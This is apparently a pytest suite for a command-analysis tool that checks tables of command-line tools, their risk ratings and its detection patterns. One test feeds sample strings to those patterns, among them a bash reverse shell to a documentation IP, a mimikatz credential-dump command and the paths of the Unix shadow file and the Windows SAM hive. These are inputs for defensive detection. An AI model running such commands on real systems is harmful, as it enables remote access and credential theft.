"""The tables of tools: packed as their sources say, sound in every entry, and open to a user's own."""

from __future__ import annotations

import gzip
from pathlib import Path

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.commands.base import Call, Word
from vedette.commands.traces import trace_call
from vedette.errors import UserError
from vedette.knowledge.tools import ToolTables, packed_tables, tables_with
from vedette.knowledge.tools.check import DATA, FILE, packed
from vedette.knowledge.tools.learning import learn, plain, read_manual
from vedette.knowledge.tools.sources import Sheet, add
from vedette.schema import Language


@pytest.fixture(scope="module")
def tables() -> ToolTables:
    return packed_tables()


def test_what_is_packed_is_what_the_sources_say() -> None:
    data, problems = packed()
    assert problems == []
    assert orjson.loads((DATA / FILE).read_bytes()) == orjson.loads(data), (
        "run: python -m vedette.knowledge.tools.check"
    )


def test_every_page_can_be_made_and_names_its_source(tables: ToolTables) -> None:
    n = 0
    for family in tables.families:
        for name in tables.names(family):
            tool = tables.tool(family, name)
            assert tool is not None
            assert tool.what, name
            assert tool.source, name
            assert not tool.what.endswith("."), name
            for page in (tool, *tool.subs.values()):
                for act in page.acts:
                    assert act.does is None or not act.does.endswith("."), act.id
                    assert act.risk <= 0.5 or act.note or act.does, act.id
                n += 1
    assert n > 1_500


def test_places_and_patterns_match_one_by_one_as_in_their_set(tables: ToolTables) -> None:
    import re2

    texts = ["HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "/etc/shadow", "sekurlsa::logonpasswords",
             "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "ls -la", "C:\\Windows\\System32\\config\\SAM"]  # fmt: skip
    for text in texts:
        alone = [n for n, p in enumerate(tables.patterns) if re2.search(p.match, text)]
        assert tables.pattern_set.matches(text) == alone
        for places, together in tables.places_by_kind.values():
            assert together.matches(text) == [n for n, p in enumerate(places) if re2.search(p.match, text)]


def test_long_text_does_not_make_a_set_give_up(tables: ToolTables) -> None:
    text = "x" * 60_000 + " sekurlsa::logonpasswords " + "y" * 5_000
    assert tables.pattern_set.matches(text)


@pytest.mark.parametrize(
    ("said", "wrong"),
    [
        ({"family": "unix", "source": "x", "tools": {"a": {"flags": {}}}}, "`what` is missing"),
        ({"family": "moon", "source": "x", "tools": {"a": {"what": "b"}}}, "moon"),
        ({"family": "unix", "tools": {"a": {"what": "b"}}}, "source"),
        ({"family": "unix", "source": "x", "tools": {"a": {"what": "b", "flags": {"-x BLAH": "c"}}}}, "BLAH"),
        ({"family": "unix", "source": "x", "tools": {"a": {"what": "b", "acts": [{"if": "*=("}]}}}, "expression"),
        ({"family": "unix", "source": "x", "tools": {"a": {"what": "b", "acts": [{"technique": ["T9"]}]}}}, "T9"),
        ({"family": "unix", "source": "x", "tools": {"a": {"what": "b", "acts": [{"risk": 7}]}}}, "risk"),
        ({"family": "unix", "source": "x", "tools": {"a": {"what": "b", "acts": [{"touch": "eat file x"}]}}}, "touch"),
        ({"places": [{"kind": "file", "match": "[", "means": "x"}]}, "expression"),
        ({"patterns": [{"match": "x"}]}, "means"),
        ({"nonsense": 1}, "nonsense"),
        ([1], "expected"),
    ],
)
def test_a_wrong_entry_is_named(said: object, wrong: str) -> None:
    sheet = Sheet()
    add(sheet, said, "own.yaml")
    assert any(wrong in problem and "own.yaml" in problem for problem in sheet.problems), sheet.problems


def test_own_tables_are_laid_over_ours(tmp_path: Path) -> None:
    own = tmp_path / "own.yaml"
    own.write_text(
        "family: unix\nsource: our wiki\ntools:\n"
        "  ls: {what: shows what we have, acts: [{if: '1=/srv/x', does: shows the vault, risk: 0.9}]}\n"
    )
    laid = tables_with([own])
    tool = laid.tool("unix", "ls")
    assert tool is not None
    assert tool.what == "shows what we have"
    assert len(tool.acts) > 1
    assert tool.acts[0].risk == 0.9
    assert packed_tables().tool("unix", "ls") is not tool
    own.write_text("family: unix\nsource: x\ntools: {a: 1}\n")
    with pytest.raises(UserError, match=r"own\.yaml: a"):
        tables_with([own])


MANUAL = """.TH FROB 1
.SH NAME
frob \\- turn things upside down
.SH OPTIONS
.TP
\\fB\\-q\\fR, \\fB\\-\\-quiet\\fR
say nothing
.TP
\\fB\\-o\\fR, \\fB\\-\\-output\\fR=\\fIFILE\\fR
write to FILE
"""


def test_a_manual_page_is_learnt(tmp_path: Path) -> None:
    path = tmp_path / "frob.1.gz"
    path.write_bytes(gzip.compress(MANUAL.encode()))
    table = learn("frob", read_manual(path), source="frob.1.gz")
    page = table["tools"]["frob"]
    assert "turn things upside down" in page["what"]
    assert page["flags"] == {"-q, --quiet": "say nothing", "-o, --output OUT": "write to FILE"}


def test_text_that_is_no_manual_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UserError):
        learn("x", "nothing here\n", source="x")
    binary = tmp_path / "a"
    binary.write_bytes(b"\0\1\2")
    with pytest.raises(UserError):
        read_manual(binary)


@settings(max_examples=80, deadline=None)
@given(st.text(max_size=400))
def test_any_text_can_be_offered_as_a_manual(text: str) -> None:
    try:
        learn("frob", plain(text), source="x")
    except UserError:
        pass


_WORDS = st.lists(
    st.text(max_size=12) | st.sampled_from(["-f", "--force", "/add", "-o", "user", "http://example.com/a"])
)


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(["net", "certutil", "find", "tar", "curl", "git", "sc", "reg", "docker", "Get-Process"]), _WORDS)
def test_any_arguments_are_read_by_a_page(name: str, words: list[str]) -> None:
    for language in (Language.CMD, Language.SH, Language.POWERSHELL):
        call = Call(Word(name, 0, 0), [Word(w, 0, 0) for w in words], language)
        used = trace_call(call, 0, packed_tables())
        assert len(used.usage.labels) == len(call.args)
        assert len(used.usage.operands) == len(used.usage.operand_at) <= len(words)
